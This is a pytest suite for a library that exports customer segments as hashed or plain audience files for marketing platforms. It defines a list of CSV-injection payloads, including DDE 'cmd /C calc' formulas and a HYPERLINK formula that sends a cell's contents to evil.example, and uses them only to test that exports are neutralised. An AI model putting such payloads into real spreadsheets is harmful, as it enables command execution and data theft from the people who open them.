import csv
import io
import random
import zipfile
from dataclasses import replace

import numpy as np
import pandas as pd
import phonenumbers
import pyarrow as pa
import pytest

from segmentation.errors import InvalidChoice
from segmentation.outputs.addresses import (
    clean_mails,
    clean_text,
    hash_cells,
    lower_bare,
    lower_closed,
    split_names,
)
from segmentation.outputs.audiences import FORMATS
from segmentation.outputs.campaign_files import is_archive, write_audience
from segmentation.outputs.countries import country_codes, country_names
from segmentation.outputs.csv_cells import find_risky
from segmentation.outputs.phones import e164_phones
from segmentation.outputs.preflight import check_audience, list_problems
from segmentation.tables import ADDRESS_PROBLEMS

# https://owasp.org/www-community/attacks/CSV_Injection and the payloads listed with it in
# PayloadsAllTheThings.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    ";=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"!A0A0")',
    " =1+1",
]
TOOLS = [name for name, layout in FORMATS.items() if layout.is_tool]
HEADERS = {
    "google": ["Email", "Phone", "First Name", "Last Name", "Country", "Zip"],
    "meta": ["email", "phone", "fn", "ln", "ct", "st", "country"],
    "mailchimp": ["Email Address", "First Name", "Last Name", "Tags"],
}
EMPTY_HASH = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def people(**columns):
    n = len(next(iter(columns.values())))
    index = pd.Index([f"c{i}" for i in range(n)], name="customer_id")
    table = pd.DataFrame(columns, index=index)
    table["segment"] = pd.Categorical(["Champions", "At risk"] * (n // 2) + ["Champions"] * (n % 2))
    if "arm" not in table:
        table["arm"] = "target"
    return table


def written(members, name, country="US", with_control=False, **changes):
    layout = replace(FORMATS[name], **changes)
    found = check_audience(members, layout, country, with_control)
    out = io.BytesIO()
    write_audience(members, layout, country, found, out)
    return out.getvalue()


def rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def normalised(cells, work):
    return work(clean_text(pa.array(cells, pa.large_string())))


# Published by Meta and TikTok, recomputed.
@pytest.mark.parametrize(
    ("column", "given", "tool", "header", "expected"),
    [
        ("email", "John_Smith@gmail.com", "meta", "email", "62a14e44f765419d10fea99367361a727c12365e2520f32218d505ed9aa0f62f"),  # noqa: E501
        ("email", " John_Smith@gmail.com", "google", "Email", "62a14e44f765419d10fea99367361a727c12365e2520f32218d505ed9aa0f62f"),  # noqa: E501
        ("phone", "(650)555-1212", "meta", "phone", "e323ec626319ca94ee8bff2e4c87cf613be6ea19919ed1364124e16807ab3176"),  # noqa: E501
        ("customer_name", "Mary", "meta", "fn", "6915771be1c5aa0c886870b6951b03d7eafc121fea0e80a5ea83beb7c449f4ec"),  # noqa: E501
        ("customer_name", "Vale\u0301ry", "meta", "fn", "08e1996b5dd49e62a4b4c010d44e4345592a863bb9f8e3976219bac29417149c"),  # noqa: E501
        ("customer_name", "정", "meta", "fn", "8fa8cd9c440be61d0151429310034083132b35975c4bea67fdd74158eb51db14"),  # noqa: E501
        ("email", "janedoe@gmail.com", "google", "Email", "d6117306485ed0e50afab3ac871e98f81699151f30281527d63ff5f233656c69"),  # noqa: E501
    ],
)  # fmt: skip
def test_published_test_vector(column, given, tool, header, expected):
    members = people(**{"email": ["a@b.example"], column: [given]})
    assert rows(written(members, tool))[0][header] == expected


@pytest.mark.parametrize("tool", HEADERS)
def test_headers_are_exactly_those_of_the_tool(tool):
    members = people(email=["a@b.example"], phone=["650 555 1212"])
    assert written(members, tool).decode().splitlines()[0].split(",") == HEADERS[tool]


def test_klaviyo_begins_with_the_address_there_is():
    assert written(people(email=["a@b.example"]), "klaviyo").startswith(b"Email,")
    assert written(people(phone=["650 555 1212"]), "klaviyo").startswith(b"Phone Number,")


@pytest.mark.parametrize("tool", TOOLS)
def test_empty_cells_stay_empty(tool):
    members = people(
        email=["a@b.example", "c@d.example"], phone=[None, ""], customer_name=["", None]
    )
    content = written(members, tool)
    assert EMPTY_HASH.encode() not in content
    assert all(
        not row.get(name) for row in rows(content) for name in ("Phone", "phone", "fn", "Zip")
    )


def test_country_and_zip_are_never_hashed_for_google():
    members = people(email=["a@b.example"], country=["Deutschland"])
    row = rows(written(members, "google"))[0]
    assert (row["Country"], row["Zip"]) == ("DE", "")


def test_phone_of_meta_has_no_plus_and_that_of_google_has():
    members = people(phone=["0171 2345678"], country=["Germany"])
    hashes = hash_cells(pa.array(["491712345678", "+491712345678"])).to_pylist()
    assert rows(written(members, "meta"))[0]["phone"] == hashes[0]
    assert rows(written(members, "google"))[0]["Phone"] == hashes[1]


def test_phone_is_read_as_of_the_customers_country_then_as_of_the_default():
    members = people(phone=["0171 2345678", "650-555-1212"], country=["Germany", None])
    assert [row["Phone Number"] for row in rows(written(members, "klaviyo"))] == [
        "+491712345678",
        "+16505551212",
    ]


@pytest.mark.parametrize(
    "region", [*sorted(phonenumbers.SUPPORTED_REGIONS)[::12], "DE", "AR", "BR"]
)
def test_phones_are_those_of_googles_library(region):
    rng = random.Random(region)
    texts = [
        "".join(rng.choice("0123456789") for _ in range(rng.randrange(4, 15))) for _ in range(99)
    ]
    for other in [*sorted(phonenumbers.SUPPORTED_REGIONS)[::9], region]:
        example = phonenumbers.example_number(other)
        for form in (0, 1, 2):
            text = phonenumbers.format_number(example, form)
            texts += [
                text,
                text[:-1],
                text.replace("+", "00"),
                text.replace("+", ""),
                f"{text} x12",
            ]
    assert e164_phones(pa.array(texts), region).to_pylist() == [asked(t, region) for t in texts]


def asked(text, region):
    try:
        number = phonenumbers.parse(text, region)
    except phonenumbers.NumberParseException:
        return None
    if not phonenumbers.is_valid_number(number):
        return None
    return phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.E164)


def test_phones_in_other_scripts_digits():
    assert e164_phones(
        pa.array(["٠١٠ ٠١٢٣ ٤٥٦٧", "０９０-１２３４-５６７８"]), "EG"
    ).to_pylist() == [
        "+201001234567",
        None,
    ]


def test_mails_that_can_be_one_and_those_that_cannot():
    good = ["a.b+c@x.co.uk", "o'neill@x.ie", "иван@пример.рф", "a@xn--p1ai.xn--p1ai", " a@b.de "]
    bad = ["a@b", "a b@c.de", "a@@b.de", ".a@b.de", "a..b@c.de", "a@-b.de", "a@b.c1", "", None]
    # RFC 5321: at most 64 before the @, and 254 in all.
    good += ["x" * 64 + "@a.de", "a@" + "b" * 249 + ".de"]
    bad += ["x" * 65 + "@a.de", "a@" + "b" * 250 + ".de"]
    cleaned = clean_mails(pa.array([*good, *bad])).to_pylist()
    assert cleaned == [mail.strip() for mail in good] + [None] * len(bad)


def test_names_in_every_script_are_split_and_normalised():
    first, last = split_names(
        clean_text(pa.array(["Anna  de Vries", "de Vries, Anna", "정", None]))
    )
    assert first.to_pylist() == ["Anna", "Anna", "정", None]
    assert last.to_pylist() == ["de Vries", "de Vries", None, None]
    assert normalised(["O'Brien-Smith", "ΕΛΈΝΗ"], lower_bare).to_pylist() == [
        "obriensmith",
        "ελένη",
    ]
    assert normalised(["Anna Maria"], lower_closed).to_pylist() == ["annamaria"]


def test_countries_are_known_by_name_and_code():
    names = ["Germany", "Allemagne", "Германия", "de", "EIRE", "United Kingdom", "UK", "?", None]
    assert country_codes(names) == ["DE", "DE", "DE", "DE", "IE", "GB", "GB", None, None]
    assert country_names()["DE"] == "Germany"


@pytest.mark.parametrize("name", FORMATS)
@pytest.mark.parametrize(
    "column", ["customer_name", "city", "region", "country", "email", "phone", "segment", "id"]
)
def test_no_cell_of_any_format_runs(name, column):
    n = len(PAYLOADS)
    members = people(
        email=[f"a{i}@b.example" for i in range(n)],
        phone=[f"65055512{10 + i}" for i in range(n)],
        city=["Rome"] * n,
    )
    if column == "id":
        members.index = pd.Index(PAYLOADS, name="customer_id")
    elif column == "segment":
        members["segment"] = pd.Categorical(PAYLOADS)
    else:
        members[column] = PAYLOADS
    cells = cells_of(written(members, name))
    assert len(cells) >= 4
    assert not any(find_risky(pa.array(cells, pa.large_string())).to_pylist())


def cells_of(content):
    files = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            files = [archive.read(name) for name in archive.namelist()]
    texts = [io.StringIO(file.decode("utf-8-sig"), newline="") for file in files]
    return [cell for text in texts for row in csv.reader(text) for cell in row]


def test_mail_that_begins_like_a_formula_goes_into_hashed_files_only():
    members = people(email=["=a@b.example", "c@d.example"])
    assert len(rows(written(members, "google"))) == 2
    assert problems(members, "mailchimp") == {"would run": 1}


def problems(members, name, country="US", with_control=False):
    return check_audience(members, FORMATS[name], country, with_control).count_problems()


@pytest.mark.parametrize(
    ("columns", "name", "expected"),
    [
        ({"email": [None, ""]}, "mailchimp", {"no address": 2}),
        ({"email": ["a@", "b@c.de"]}, "mailchimp", {"not an address": 1}),
        ({"email": ["иван@пример.рф", "b@c.de"]}, "klaviyo", {"letters not taken": 1}),
        ({"email": ["иван@пример.рф", "b@c.de"]}, "meta", {}),
        ({"email": ["A@b.de", "a@B.de "]}, "google", {"same address": 1}),
        ({"phone": ["6505551212", "+1 650 555 1212"]}, "meta", {"same address": 1}),
        ({"email": ["a@b.de", "c@d.de", ""], "phone": ["", "", "6505551212"]}, "meta", {}),
        ({"phone": ["12", "6505551212"]}, "google", {"not an address": 1}),
        ({"phone": ["6505551212"] * 2}, "mailchimp", {"no address": 2}),
        ({"email": ["a@", "b@c.de"], "phone": ["6505551212", "1"]}, "meta",
         {"e-mail left empty": 1, "phone left empty": 1}),
        ({"email": ["a@b.de", "A@b.de"], "arm": ["control", "target"]}, "meta", {"held out": 1}),
    ],
)  # fmt: skip
def test_unusable_addresses_by_reason(columns, name, expected):
    assert problems(people(**columns), name) == expected


@pytest.mark.parametrize("name", FORMATS)
def test_nobody_is_dropped_silently(name):
    rng = np.random.default_rng(3)
    mails = ["a@b.de", "x", None, "=a@b.de", "ж@b.de", "q@b.de", "", "z@b.de"]
    phones = ["6505551212", "12", None, "+49 171 2345678", "0"]
    n = 400
    members = people(
        email=[rng.choice(mails) for _ in range(n)],
        phone=[rng.choice(phones) for _ in range(n)],
        arm=rng.choice(["target", "control"], n),
    )
    found = check_audience(members, FORMATS[name], "US", False)
    listed = list_problems(members, found)
    outside = listed[listed["in_file"] == "no"]
    assert found.n_usable + len(outside) == (members["arm"] == "target").sum()
    assert found.count_problems() == listed["problem"].value_counts().to_dict()
    assert set(listed["problem"]) <= set(ADDRESS_PROBLEMS)
    assert [listed.index.name, *listed] == ["customer_id", "problem", "in_file", "email", "phone"]


def test_problem_list_of_a_fine_audience_is_empty():
    members = people(email=["a@b.de"])
    assert list_problems(members, check_audience(members, FORMATS["meta"], "US", False)).empty


def test_control_group_never_goes_into_a_hashed_file():
    members = people(email=["a@b.de", "c@d.de"], arm=["target", "control"])
    assert len(rows(written(members, "meta", with_control=True))) == 1
    assert [row["Arm"] for row in rows(written(members, "klaviyo", with_control=True))] == [
        "target",
        "control",
    ]
    assert len(rows(written(members, "klaviyo"))) == 1


def test_mailchimp_tags_are_segment_and_arm():
    members = people(email=["a@b.de"])
    members["segment"] = pd.Categorical(["Best, of all"])
    assert rows(written(members, "mailchimp"))[0]["Tags"] == "Best  of all, target"


def test_a_file_a_segment():
    members = people(email=["a@b.de"] * 5)
    with zipfile.ZipFile(io.BytesIO(written(members, "by_segment"))) as archive:
        assert archive.namelist() == ["at-risk.csv", "champions.csv"]
        assert len(rows(archive.read("champions.csv"))) == 3


def test_segments_with_like_names_get_files_of_their_own():
    members = people(email=["a@b.de"] * 3)
    members["segment"] = pd.Categorical(["A/B", "A-B", "A B"])
    with zipfile.ZipFile(io.BytesIO(written(members, "by_segment"))) as archive:
        assert len(set(archive.namelist())) == 3


def test_file_that_is_too_long_is_split_into_parts_with_a_header_each(monkeypatch):
    monkeypatch.setattr("segmentation.outputs.campaign_files.ROWS", 10)
    members = people(email=[f"a{i}@b.de" for i in range(95)])
    found = check_audience(members, replace(FORMATS["klaviyo"], max_bytes=1_200), "US", False)
    assert is_archive(replace(FORMATS["klaviyo"], max_bytes=1_200), found)
    with zipfile.ZipFile(io.BytesIO(written(members, "klaviyo", max_bytes=1_200))) as archive:
        parts = [archive.read(name) for name in archive.namelist()]
    assert len(parts) > 2
    assert all(len(part) <= 1_200 for part in parts)
    mails = [row["Email"] for part in parts for row in rows(part)]
    assert mails == list(members["email"])


def test_batches_change_nothing(monkeypatch):
    members = people(
        email=[f"a{i}@b.de" for i in range(50)], phone=[f"65055512{i}" for i in range(50)]
    )
    whole = {name: written(members, name) for name in FORMATS}
    monkeypatch.setattr("segmentation.outputs.audiences.BATCH", 7)
    assert {name: written(members, name) for name in FORMATS} == whole


def test_invisible_characters_are_counted_and_taken_out():
    members = people(email=["a@b.de\u200b"], customer_name=["An\x00na"], city=["Ro\x1bme"])
    found = check_audience(members, FORMATS["klaviyo"], "US", False)
    assert found.n_rejected == 3
    row = rows(written(members, "klaviyo"))[0]
    assert (row["Email"], row["City"]) == ("a@b.de", "Ro me")


def test_cells_that_a_spreadsheet_would_run_are_counted():
    members = people(email=["a@b.de"], city=["=1+1"])
    assert check_audience(members, FORMATS["plain"], "US", True).n_risky == 1


def test_country_without_phones_is_refused_as_default_and_passed_over_as_a_customers_own():
    members = people(phone=["6505551212"], country=["Antarctica"])
    assert problems(members, "google") == {}
    with pytest.raises(InvalidChoice, match="“XX”"):
        problems(members, "google", country="XX")


def test_audience_without_anyone_has_a_header():
    members = people(email=["a@b.de"]).iloc[:0]
    assert written(members, "google") == b"Email,Phone,First Name,Last Name,Country,Zip\n"
